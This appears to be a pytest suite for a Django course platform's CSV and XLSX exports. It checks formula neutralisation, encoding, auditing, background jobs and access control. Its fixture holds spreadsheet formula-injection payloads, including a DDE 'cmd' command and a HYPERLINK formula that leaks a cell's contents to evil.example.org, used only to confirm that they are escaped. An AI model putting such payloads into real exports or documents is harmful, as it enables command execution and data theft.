"""The course exports against the checks of the shared cases README:
formulas neutralised in every text cell, UTF-8 with BOM and CRLF, accents
intact, in CSV and XLSX; every download audited; large workbooks through
a background job; only the course's staff."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from karma.accounts.models import User
from karma.accounts.tests.factories import InstructorFactory
from karma.audit.models import AuditEvent, AuditKind
from karma.courses.models import CourseStatus, Module
from karma.enrollments.models import BulkSource, UnknownEmailPolicy
from karma.enrollments.services.bulk import (
    apply_job,
    confirm_job,
    review_job,
    start_job,
)
from karma.reports import services
from karma.reports.models import ExportJob, ExportStatus
from karma.reports.tests.known import _attempt, _enroll, _read

CASES = Path(__file__).resolve().parents[2] / "lib" / "tests" / "cases"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
KINDS = ["learners", "progress", "assessments"]
FORMATS = ["csv", "xlsx"]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _export_url(course, kind: str, file_format: str) -> str:
    return reverse("reports:course_export", args=[course.public_id, kind, file_format])


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _rows(raw: bytes, file_format: str) -> list[list[str]]:
    """The cells of an export as text, header first."""
    if file_format == "csv":
        return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(raw)).active
    for row in sheet.iter_rows():
        for cell in row:
            # Stored as text, never as a formula.
            assert cell.data_type != "f", cell.value
    return [
        ["" if c.value is None else str(c.value) for c in row]
        for row in sheet.iter_rows()
    ]


@pytest.fixture
def hostile(known):
    """The known course with learners named as in case-18 (invited through
    bulk enrollment, so stored exactly as written), a hostile module name
    and quiz title, and accented names."""
    course = known.course
    job = start_job(
        course=course,
        started_by=None,
        source=BulkSource.FILE,
        data=(CASES / "case-18-formula-injection.csv").read_bytes(),
        file_name="case-18-formula-injection.csv",
        unknown_policy=UnknownEmailPolicy.INVITE,
        background=False,
    )
    job = review_job(job_id=job.pk)
    confirm_job(job=job, confirmed_by=None, background=False)
    apply_job(job_id=job.pk)

    Module.objects.filter(course=course, name="Extras").update(
        name="=cmd|' /C calc'!A0"
    )
    known.lessons["check"].title = "@SUM(A1:A9)"
    known.lessons["check"].save()
    mallory = User.objects.get(email="mallory@example.org")
    enrollment = course.enrollments.get(learner=mallory)
    _read(enrollment, known.lessons["read"], known.now)
    _attempt(enrollment, known.lessons["check"], 1, 50, known.now)

    dan = known.enrollment("Dan").learner
    dan.first_name, dan.last_name = "\tTabbed", "\rReturn"
    dan.save()

    accented = _enroll(course, "Agnès", 5, known.now)
    accented.learner.last_name = "Müller"
    accented.learner.save()
    kenji = _enroll(course, "Kenji", 5, known.now)
    kenji.learner.last_name = "Satō"
    kenji.learner.save()
    return known


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("kind", KINDS)
def test_every_text_cell_a_spreadsheet_would_run_is_neutralised(
    hostile, instructor_client, kind, file_format
):
    response = instructor_client.get(_export_url(hostile.course, kind, file_format))

    rows = _rows(_body(response), file_format)
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(DANGEROUS), repr(cell)
    assert any(cell.startswith("'") for cell in cells)
    if kind == "assessments":
        assert "'@SUM(A1:A9)" in cells
    if kind == "progress":
        assert "'=cmd|' /C calc'!A0 (%)" in rows[0]
    if kind in ("learners", "progress"):
        assert '\'=HYPERLINK("http://evil.example.org/?d="&A1,"open")' in cells
        assert "'+SUM(1+1)" in cells
        assert "'@cmd" in cells
        assert "'-2+3" in cells
        # Case-18's last cell keeps its leading tab, as the file wrote it.
        assert "'\t=1+1" in cells
        assert "'\tTabbed" in cells
        assert any(cell.startswith("'\r") or cell == "'\nReturn" for cell in cells)


@pytest.mark.parametrize("kind", KINDS)
def test_csv_is_utf8_with_bom_and_crlf(hostile, instructor_client, kind):
    response = instructor_client.get(_export_url(hostile.course, kind, "csv"))
    raw = _body(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert raw.endswith(b"\r\n")
    # Every line break between records is CRLF; a bare LF may appear only
    # inside a quoted cell, and these exports have none.
    assert raw.count(b"\n") == raw.count(b"\r\n")


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize("kind", ["learners", "progress"])
def test_accented_names_round_trip(hostile, instructor_client, kind, file_format):
    response = instructor_client.get(_export_url(hostile.course, kind, file_format))

    rows = _rows(_body(response), file_format)

    names = {(row[0], row[1]) for row in rows[1:]}
    assert ("Agnès", "Müller") in names
    assert ("Kenji", "Satō") in names


def test_progress_export_holds_the_matrix(known, instructor_client):
    response = instructor_client.get(_export_url(known.course, "progress", "csv"))

    rows = _rows(_body(response), "csv")

    assert rows[0][-3:] == ["Basics (%)", "Practice (%)", "Extras (%)"]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["Ana"][3:8] == ["completed", "100", "4", "4", "17"]
    assert by_name["Ben"][-3:] == ["100", "50", ""]
    assert by_name["Gus"][-3:] == ["50", "50", ""]
    assert len(rows) == 1 + 7


def test_assessment_export_lists_every_submitted_attempt(known, instructor_client):
    response = instructor_client.get(_export_url(known.course, "assessments", "csv"))

    rows = _rows(_body(response), "csv")

    assert rows[0][:8] == [
        "first_name",
        "last_name",
        "email",
        "quiz",
        "attempt",
        "status",
        "score_percent",
        "passed",
    ]
    summary = [(r[0], r[4], r[5], r[6], r[7]) for r in rows[1:]]
    assert summary == [
        ("Ana", "1", "final", "80.00", "yes"),
        ("Ben", "1", "final", "40.00", "no"),
        ("Ben", "2", "final", "60.00", "no"),
        ("Gus", "1", "pending_review", "", ""),
    ]


def test_csv_streams_and_xlsx_is_sent_from_a_file(known, instructor_client):
    csv_response = instructor_client.get(_export_url(known.course, "progress", "csv"))
    xlsx_response = instructor_client.get(_export_url(known.course, "progress", "xlsx"))

    assert csv_response.streaming
    assert xlsx_response.streaming
    assert xlsx_response["Content-Disposition"].startswith("attachment;")
    assert "known-course-progress-" in xlsx_response["Content-Disposition"]
    assert "no-store" in csv_response["Cache-Control"]


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize(
    ("kind", "rows"), [("learners", 7), ("progress", 7), ("assessments", 4)]
)
def test_every_download_is_audited_with_its_row_count(
    known, instructor, instructor_client, kind, rows, file_format
):
    _body(instructor_client.get(_export_url(known.course, kind, file_format)))

    event = AuditEvent.objects.get(kind=AuditKind.EXPORT_DOWNLOADED)
    assert event.actor == instructor
    assert event.target == known.course.public_id
    assert event.details == {
        "export": f"course_{kind}",
        "format": file_format,
        "rows": rows,
    }


@pytest.mark.parametrize("role", ["other_instructor", "enrolled_learner", "outsider"])
def test_exports_are_refused_to_everyone_but_the_staff(known, client, role, outsider):
    people = {
        "other_instructor": lambda: InstructorFactory(),
        "enrolled_learner": lambda: known.enrollment("Ben").learner,
        "outsider": lambda: outsider,
    }
    client.force_login(people[role]())

    response = client.get(_export_url(known.course, "progress", "csv"))

    assert response.status_code == 403
    assert not AuditEvent.objects.filter(kind=AuditKind.EXPORT_DOWNLOADED).exists()


def test_exports_of_a_draft_are_404_to_outsiders(known, outsider_client):
    known.course.status = CourseStatus.DRAFT
    known.course.save()

    response = outsider_client.get(_export_url(known.course, "progress", "csv"))

    assert response.status_code == 404


def test_unknown_export_kind_or_format_is_404(known, instructor_client):
    assert (
        instructor_client.get(_export_url(known.course, "secrets", "csv")).status_code
        == 404
    )
    assert (
        instructor_client.get(_export_url(known.course, "progress", "pdf")).status_code
        == 404
    )


# --- Large workbooks: a background job ---------------------------------------------


@pytest.fixture
def small_inline_limit(monkeypatch):
    monkeypatch.setattr(services, "INLINE_XLSX_ROWS", 3)


def test_a_large_workbook_is_offered_as_a_job(
    known, instructor_client, small_inline_limit
):
    response = instructor_client.get(_export_url(known.course, "progress", "xlsx"))

    html = response.content.decode()
    assert response.status_code == 200
    assert "This export has 7 rows" in html
    assert reverse("reports:export_job_start", args=[known.course.public_id]) in html
    assert not AuditEvent.objects.filter(kind=AuditKind.EXPORT_DOWNLOADED).exists()


def test_a_job_writes_the_file_and_its_download_is_audited(
    known, instructor, instructor_client, small_inline_limit, run_on_commit, tmp_path
):
    start = reverse("reports:export_job_start", args=[known.course.public_id])
    with run_on_commit():
        response = instructor_client.post(
            start, {"kind": "progress", "file_format": "xlsx"}
        )
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("reports:export_job", args=[job.public_id])
    assert job.status == ExportStatus.DONE
    assert job.row_count == 7
    assert job.file.name.startswith(f"exports/{job.public_id}/")
    assert (tmp_path / job.file.name).is_file()

    page = instructor_client.get(response["Location"]).content.decode()
    assert "Ready: 7 rows." in page
    download = instructor_client.get(
        reverse("reports:export_job_download", args=[job.public_id])
    )

    rows = _rows(_body(download), "xlsx")
    assert len(rows) == 8
    event = AuditEvent.objects.get(kind=AuditKind.EXPORT_DOWNLOADED)
    assert event.details["job"] == job.public_id
    assert event.details["rows"] == 7


def test_a_csv_job_writes_bom_and_crlf(known, instructor, run_on_commit):
    with run_on_commit():
        job = services.request_export(
            course=known.course,
            requested_by=instructor,
            kind="assessments",
            file_format="csv",
        )
    job.refresh_from_db()

    raw = job.file.read()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\n") == raw.count(b"\r\n")
    assert job.row_count == 4


def test_a_job_runs_once_however_often_it_is_delivered(
    known, instructor, run_on_commit
):
    with run_on_commit():
        job = services.request_export(
            course=known.course,
            requested_by=instructor,
            kind="progress",
            file_format="csv",
        )
    first_name = ExportJob.objects.get(pk=job.pk).file.name

    again = services.run_export(job_id=job.pk)

    assert again.file.name == first_name


def test_a_job_that_fails_says_so(known, instructor, monkeypatch, run_on_commit):
    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(services, "export_table", broken)
    with run_on_commit():
        job = services.request_export(
            course=known.course,
            requested_by=instructor,
            kind="progress",
            file_format="csv",
        )
    job.refresh_from_db()

    assert job.status == ExportStatus.FAILED
    assert "could not be written" in job.error


def test_only_the_person_who_asked_follows_a_job(
    known, instructor, admin_client, run_on_commit
):
    with run_on_commit():
        job = services.request_export(
            course=known.course,
            requested_by=instructor,
            kind="progress",
            file_format="csv",
        )

    for name in ("reports:export_job", "reports:export_job_download"):
        url = reverse(name, args=[job.public_id])
        assert admin_client.get(url).status_code == 404


def test_a_job_of_a_course_no_longer_taught_is_gone(known, run_on_commit, client):
    co = known.co_instructor
    with run_on_commit():
        job = services.request_export(
            course=known.course, requested_by=co, kind="progress", file_format="csv"
        )
    known.course.instructor_links.filter(instructor=co).delete()
    client.force_login(co)

    url = reverse("reports:export_job_download", args=[job.public_id])
    assert client.get(url).status_code == 404


def test_an_expired_file_is_404_and_its_page_says_so(
    known, instructor, instructor_client, run_on_commit
):
    with run_on_commit():
        job = services.request_export(
            course=known.course,
            requested_by=instructor,
            kind="progress",
            file_format="csv",
        )
    job.refresh_from_db()
    job.file.delete(save=False)

    url = reverse("reports:export_job_download", args=[job.public_id])
    assert instructor_client.get(url).status_code == 404
    page = instructor_client.get(reverse("reports:export_job", args=[job.public_id]))
    assert "This file was deleted" in page.content.decode()


def test_a_learner_cannot_ask_for_a_job(known, learner):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.request_export(
            course=known.course,
            requested_by=learner,
            kind="progress",
            file_format="csv",
        )


def test_a_job_with_a_bad_kind_is_refused(known, instructor):
    with pytest.raises(services.ExportError) as refused:
        services.request_export(
            course=known.course,
            requested_by=instructor,
            kind="everything",
            file_format="csv",
        )

    assert refused.value.field == "kind"


def test_the_job_form_refuses_bad_input_without_failing(known, instructor_client):
    start = reverse("reports:export_job_start", args=[known.course.public_id])

    response = instructor_client.post(start, {"kind": "everything"})

    assert response.status_code == 302
    assert not ExportJob.objects.exists()


def test_outsiders_cannot_start_a_job(known, outsider_client):
    start = reverse("reports:export_job_start", args=[known.course.public_id])

    response = outsider_client.post(start, {"kind": "progress", "file_format": "csv"})

    assert response.status_code == 403
    assert not ExportJob.objects.exists()


def test_learner_export_of_the_learners_tab_still_works(known, instructor_client):
    url = reverse("enrollments:learners_export_csv", args=[known.course.public_id])

    raw = _body(instructor_client.get(url))

    assert raw.startswith(b"\xef\xbb\xbf")


def test_large_csv_comes_in_several_chunks(known, instructor_client):
    from karma.reports.tests.test_queries import add_learners

    add_learners(known.course, known.lessons, 0, 1200)

    response = instructor_client.get(_export_url(known.course, "progress", "csv"))
    chunks = list(response.streaming_content)

    assert len(chunks) > 2
    rows = _rows(b"".join(chunks), "csv")
    assert len(rows) == 1 + 7 + 1200
